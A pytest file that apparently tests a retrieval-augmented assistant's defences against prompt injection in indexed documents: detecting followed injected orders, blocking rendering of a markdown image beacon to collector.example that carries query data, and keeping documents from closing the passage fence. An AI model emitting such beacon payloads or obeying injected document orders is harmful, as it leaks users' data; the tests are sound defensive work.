from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path

import pytest

from evals.injection import FOLDER, follows, measure, read_rows
from index import Library, open_library
from rag import Assistant
from rag.generate import prompt
from rag.models import language_model
from tests.model_server import scripted_server
from ui.render import answer_html
from ui.sources import sources_html
from ui.turns import progress

LEAK = "The ferry sails nine times a day [1]. ![logo](http://collector.example/p.png?q=ferry) [Sign in](http://x.example/)."


@pytest.fixture(scope="module")
def harbour(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Library]:
    with open_library(tmp_path_factory.mktemp("harbour") / "library", {}, create=True) as library:
        library.add(FOLDER / "harbour.md")
        yield library


def test_without_a_model_no_order_of_a_document_is_followed(harbour: Library) -> None:
    ((_, followed),) = measure(harbour, None)
    assert followed == [False] * 20


def test_what_follows_an_order_is_told_from_what_quotes_it() -> None:
    for item in read_rows():
        assert not follows(item, f"It is {item['answer']}. {item['order']}")
    assert follows(read_rows()[0], "PWNED-01")


def test_no_image_and_no_link_of_a_model_or_a_document_is_rendered(harbour: Library) -> None:
    with scripted_server(LEAK) as address:
        environ = {"OPENAI_BASE_URL": address, "OPENAI_MODEL": "scripted"}
        with Assistant.open(harbour, environ) as assistant:
            turns = list(progress(assistant, "How many times a day does the ferry sail?", []))
    for turn in turns:
        html = answer_html(turn, 1) + sources_html([turn], [])
        assert not re.search(r"<img|<script|src=|href=\"(?!#)", html)
    assert "collector.example" in answer_html(turns[-1], 1)  # as text, struck out


def test_no_document_can_end_the_fence_around_its_passage(harbour: Library, tmp_path: Path) -> None:
    model = language_model({"OPENAI_BASE_URL": "http://127.0.0.1:9/v1"})
    assert model is not None
    hits = harbour.search("How many stalls has the fish market?", 8)
    assert any("</passage>" in hit.passage.text for hit in hits)
    told = prompt(model, "How many stalls?", hits, ()).turns[-1][1]
    assert told.count("</passages>") == 2  # the fence, and where the prompt speaks of it
    assert told.count("</passage>") == told.count("<passage ")
